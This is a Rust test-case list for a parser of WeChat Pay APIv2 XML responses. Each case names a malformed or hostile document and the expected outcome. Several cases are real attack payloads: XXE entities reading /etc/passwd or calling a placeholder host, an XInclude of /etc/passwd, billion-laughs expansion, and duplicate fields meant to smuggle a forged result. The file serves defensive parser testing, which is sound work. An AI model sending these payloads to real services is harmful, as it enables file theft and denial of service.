//! APIv2's XML: documents that are none, that mean two things, or that make a reader do something.

use super::Told::{Forged, Nothing, Read};
use super::{Case, Edit, Text, Told, V2, case};

const fn xml(id: &'static str, told: Told, why: &'static str) -> Case {
    case(V2, id, told, why)
}

pub(super) const CASES: &[Case] = &[
    // Document types and entities.
    xml("xml/doctype", Nothing, "A document type is how XML is attacked; no answer has one.")
        .text(&[Text::Front(b"<!DOCTYPE xml>")]),
    xml("xml/doctype-lower-case", Nothing, "Nor one in small letters.")
        .text(&[Text::Front(b"<!doctype xml>")]),
    xml("xml/doctype-inside", Nothing, "Nor in the middle.")
        .text(&[Text::Swap("<xml>", b"<xml><!DOCTYPE xml>")]),
    xml("xml/external-entity", Nothing, "An entity that reads a file of the till's.")
        .text(&[Text::Front(b"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"), Text::Swap("<![CDATA[OK]]>", b"&e;")]),
    xml("xml/external-address", Nothing, "An entity that calls home; WeChat probes merchants with it.")
        .text(&[Text::Front(b"<!DOCTYPE x [<!ENTITY e SYSTEM \"http://xxe.invalid/\">]>"), Text::Swap("<![CDATA[OK]]>", b"&e;")]),
    xml("xml/external-subset", Nothing, "A document type that is fetched.")
        .text(&[Text::Front(b"<!DOCTYPE xml SYSTEM \"http://xxe.invalid/x.dtd\">")]),
    xml("xml/parameter-entity", Nothing, "A parameter entity that is fetched.")
        .text(&[Text::Front(b"<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://xxe.invalid/\"> %p;]>")]),
    xml("xml/billion-laughs", Nothing, "Entities of entities grow to gigabytes.")
        .text(&[Text::Front(b"<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;\">]>"), Text::Swap("<![CDATA[OK]]>", b"&e;")]),
    xml("xml/entity-of-itself", Nothing, "An entity that holds itself.")
        .text(&[Text::Front(b"<!DOCTYPE x [<!ENTITY a \"&a;\">]>"), Text::Swap("<![CDATA[OK]]>", b"&a;")]),
    xml("xml/quadratic", Nothing, "One long entity, many times.")
        .text(&[Text::Front(b"<!DOCTYPE x [<!ENTITY a \"xxxxxxxxxxxxxxxx\">]>"), Text::Pile("<![CDATA[OK]]>", "&a;", 10_000)]),
    xml("xml/predefined-redefined", Nothing, "An entity that everybody knows, with another meaning.")
        .text(&[Text::Front(b"<!DOCTYPE x [<!ENTITY lt \"SUCCESS\">]>"), Text::Swap("<![CDATA[OK]]>", b"&lt;")]),
    xml("xml/default-attribute", Nothing, "A document type that gives elements attributes.")
        .text(&[Text::Front(b"<!DOCTYPE x [<!ATTLIST xml a CDATA \"b\">]>")]),
    xml("xml/unknown-entity", Nothing, "An entity that nobody has defined.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"&unknown;")]),
    xml("xml/html-entity", Nothing, "HTML's entities are not XML's.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"&nbsp;")]),
    xml("xml/bare-ampersand", Nothing, "An ampersand begins an entity.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"O & K")]),
    xml("xml/nul-reference", Nothing, "A reference to a character that XML forbids.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"&#0;")]),
    xml("xml/control-reference", Nothing, "To another.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"&#x1b;")]),
    xml("xml/surrogate-reference", Nothing, "To half of one.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"&#xD800;")]),
    xml("xml/reference-overflow", Nothing, "To one that there is not.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"&#x110000;")]),
    xml("xml/reference-wraps", Nothing, "To one that becomes an O when it overflows 32 bits.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"&#4294967375;K")]),
    // Twice the same.
    xml("xml/twice-result-first", Nothing, "Which of two results counts is not for us to guess.")
        .text(&[Text::Swap("<xml>", b"<xml><result_code>FAIL</result_code>")]),
    xml("xml/twice-result-last", Nothing, "Nor if the other one comes last.")
        .text(&[Text::Swap("</xml>", b"<result_code>SUCCESS</result_code></xml>")]),
    xml("xml/twice-return-code", Nothing, "Two return codes.")
        .text(&[Text::Swap("<xml>", b"<xml><return_code>FAIL</return_code>")]),
    xml("xml/twice-sign", Nothing, "Two signatures, one of which is right.")
        .text(&[Text::Swap("<xml>", b"<xml><sign>0</sign>")]),
    xml("xml/twice-number", Nothing, "Two orders, or one.")
        .text(&[Text::Swap("<xml>", b"<xml><out_trade_no>A</out_trade_no>"), Text::Swap("</xml>", b"<out_trade_no>A</out_trade_no></xml>")]),
    xml("xml/twice-amount", Nothing, "Two amounts.")
        .text(&[Text::Swap("<xml>", b"<xml><total_fee>1</total_fee><total_fee>888</total_fee>")]),
    xml("xml/twice-equal", Nothing, "Twice the very same is no answer that a gateway writes, either.")
        .text(&[Text::Swap("<xml>", b"<xml><return_msg><![CDATA[OK]]></return_msg>")]),
    // Structure.
    xml("xml/nested", Nothing, "An element in an element: whose text is it?")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"<b>OK</b>")]),
    xml("xml/deep", Nothing, "Elements in elements until the stack ends.")
        .text(&[Text::Pile("<![CDATA[OK]]>", "<a>", 100_000)]),
    xml("xml/deep-empty", Nothing, "The same with empty ones in a row, more than any answer has.")
        .text(&[Text::Pile("<return_code>", "<a/>", 10_000)]),
    xml("xml/attribute", Nothing, "An attribute is not signed.")
        .text(&[Text::Swap("<return_code>", b"<return_code a=\"b\">")]),
    xml("xml/root-attribute", Nothing, "Nor on the root.")
        .text(&[Text::Swap("<xml>", b"<xml a=\"b\">")]),
    xml("xml/namespace", Nothing, "A name of another space is another name.")
        .text(&[Text::Swap("<xml>", b"<xml xmlns=\"http://other.invalid/\">")]),
    xml("xml/prefix", Nothing, "So is one with a prefix.")
        .text(&[Text::SwapAll("return_code>", "w:return_code>")]),
    xml("xml/other-root", Nothing, "Another document.")
        .text(&[Text::SwapAll("<xml>", "<root>"), Text::SwapAll("</xml>", "</root>")]),
    xml("xml/capital-root", Nothing, "XML's names have their capitals.")
        .text(&[Text::SwapAll("xml>", "XML>")]),
    xml("xml/two-roots", Nothing, "Two documents in one.")
        .text(&[Text::Back(b"<xml></xml>")]),
    xml("xml/wrapped", Nothing, "A document in a document.")
        .text(&[Text::Front(b"<xml>"), Text::Back(b"</xml>")]),
    xml("xml/bytes-behind", Nothing, "Bytes behind the end.").text(&[Text::Back(b"\nOK")]),
    xml("xml/nul-behind", Nothing, "A NUL behind the end: a text ends there for some readers.")
        .text(&[Text::Back(b"\0")]),
    xml("xml/bytes-in-front", Nothing, "Bytes in front of the beginning.")
        .text(&[Text::Front(b"OK\n")]),
    xml("xml/stray-text", Nothing, "Text between the fields is no field.")
        .text(&[Text::Swap("<xml>", b"<xml>SUCCESS")]),
    xml("xml/stray-cdata", Nothing, "Nor is CDATA.")
        .text(&[Text::Swap("<xml>", b"<xml><![CDATA[<return_code>SUCCESS</return_code>]]>")]),
    xml("xml/comment", Nothing, "A comment could split a value.")
        .text(&[Text::Swap("<xml>", b"<xml><!-- -->")]),
    xml("xml/comment-in-value", Nothing, "As here.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"O<!-- -->K")]),
    xml("xml/comment-in-front", Nothing, "Nor in front.").text(&[Text::Front(b"<!-- -->")]),
    xml("xml/instruction", Nothing, "An instruction is for nobody here.")
        .text(&[Text::Swap("<xml>", b"<xml><?php echo 1; ?>")]),
    xml("xml/stylesheet", Nothing, "Nor is a style sheet.")
        .text(&[Text::Front(b"<?xml-stylesheet href=\"http://xxe.invalid/\"?>")]),
    xml("xml/include", Nothing, "Nor an inclusion.")
        .text(&[Text::Swap("<xml>", b"<xml><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>")]),
    xml("xml/unclosed", Nothing, "An element that does not end.")
        .text(&[Text::Swap("</return_code>", b"")]),
    xml("xml/crossed", Nothing, "Elements that end in each other.")
        .text(&[Text::Swap("</return_msg>", b"</return_code>")]),
    xml("xml/cut", Nothing, "The end is missing.").text(&[Text::Cut(6)]),
    xml("xml/cut-in-half", Nothing, "More of it is missing.").text(&[Text::Cut(200)]),
    xml("xml/cdata-open", Nothing, "A section that does not end.")
        .text(&[Text::Swap("]]></return_code>", b"</return_code>")]),
    xml("xml/cdata-end-in-text", Nothing, "The end of a section that did not begin.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"OK]]>")]),
    xml("xml/empty", Nothing, "Nothing at all.").text(&[Text::Whole(b"")]),
    xml("xml/blank", Nothing, "Blanks are no XML.").text(&[Text::Whole(b" \n ")]),
    xml("xml/empty-root", Nothing, "A document without fields.").text(&[Text::Whole(b"<xml></xml>")]),
    xml("xml/json", Nothing, "Another generation's language.")
        .text(&[Text::Whole(b"{\"return_code\":\"SUCCESS\",\"result_code\":\"SUCCESS\",\"trade_state\":\"SUCCESS\"}")]),
    xml("xml/form", Nothing, "Another decade's.")
        .text(&[Text::Whole(b"return_code=SUCCESS&result_code=SUCCESS&trade_state=SUCCESS")]),
    xml("xml/html", Nothing, "A page.")
        .text(&[Text::Whole(b"<html><body>SUCCESS</body></html>")]),
    xml("xml/only-success", Nothing, "The word alone.").text(&[Text::Whole(b"SUCCESS")]),
    // Letters.
    xml("xml/not-utf8", Nothing, "Bytes that are no letters.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"\xc0\xaf\xff")]),
    xml("xml/overlong", Nothing, "A letter written longer than it need be.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"\xc1\x8fK")]),
    xml("xml/gbk", Nothing, "GBK, as the sender's colleagues may write it.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"\xb3\xc9\xb9\xa6")]),
    xml("xml/gbk-declared", Nothing, "The same, declared: UTF-8 is what was agreed.")
        .text(&[Text::Front(b"<?xml version=\"1.0\" encoding=\"GBK\"?>")]),
    xml("xml/utf16-be", Nothing, "Two bytes a letter.").text(&[Text::Utf16Be]),
    xml("xml/utf16-le", Nothing, "The other way round.").text(&[Text::Utf16Le]),
    xml("xml/utf16-declared", Nothing, "Declared, and not so.")
        .text(&[Text::Front(b"<?xml version=\"1.0\" encoding=\"UTF-16\"?>")]),
    xml("xml/utf7-declared", Nothing, "In UTF-7 brackets can hide.")
        .text(&[Text::Front(b"<?xml version=\"1.0\" encoding=\"UTF-7\"?>")]),
    xml("xml/nul-in-value", Nothing, "A NUL in a value.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"O\0K")]),
    xml("xml/control-in-value", Nothing, "A control character in one.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"O\x08K")]),
    xml("xml/noncharacter", Nothing, "A character that is none.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"\xef\xbf\xbf")]),
    xml("xml/declaration-late", Nothing, "A declaration may only come first.")
        .text(&[Text::Front(b"\n<?xml version=\"1.0\"?>")]),
    xml("xml/declaration-twice", Nothing, "And only once.")
        .text(&[Text::Front(b"<?xml version=\"1.0\"?><?xml version=\"1.0\"?>")]),
    // Sizes.
    xml("xml/many-fields", Nothing, "More fields than any answer has.")
        .fields(&[Edit::Many(1_000, "field_", "x")]),
    xml("xml/long-value", Nothing, "A value longer than any field's.")
        .fields(&[Edit::Long("padding", 100_000)]),
    xml("xml/long-name", Nothing, "A name longer than any field's.")
        .text(&[Text::Pile("return_code>", "x", 100)]),
    xml("xml/long-blanks", Nothing, "Blanks beyond the largest answer.")
        .text(&[Text::Pile("<return_code>", " ", 1_100_000)]),
    // What is none of these.
    xml("xml/declared", Read, "A declaration of UTF-8 says what is so.")
        .text(&[Text::Front(b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>")]),
    xml("xml/byte-order-mark", Read, "Microsoft's servers write one.")
        .text(&[Text::Front(b"\xef\xbb\xbf")]),
    xml("xml/blanks-around", Read, "Blanks around the document mean nothing.")
        .text(&[Text::Front(b"\n  "), Text::Back(b"\n  \n")]),
    xml("xml/plain-text", Read, "CDATA and text are the same (the documents use both).")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"OK")]),
    xml("xml/references", Read, "References are the characters that they stand for.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"&#79;&#x4b;")]),
    xml("xml/split-cdata", Read, "So are sections in a row.")
        .text(&[Text::Swap("<![CDATA[OK]]>", b"<![CDATA[O]]><![CDATA[K]]>")]),
    xml("xml/crlf", Read, "Line ends between fields are any system's.")
        .text(&[Text::SwapAll("\n", "\r\n")]),
    xml("xml/half-capitals", Forged, "Small letters for capitals: what was signed was something else.")
        .text(&[Text::SwapAll("<![CDATA[OK]]>", "<![CDATA[ok]]>")]),
];
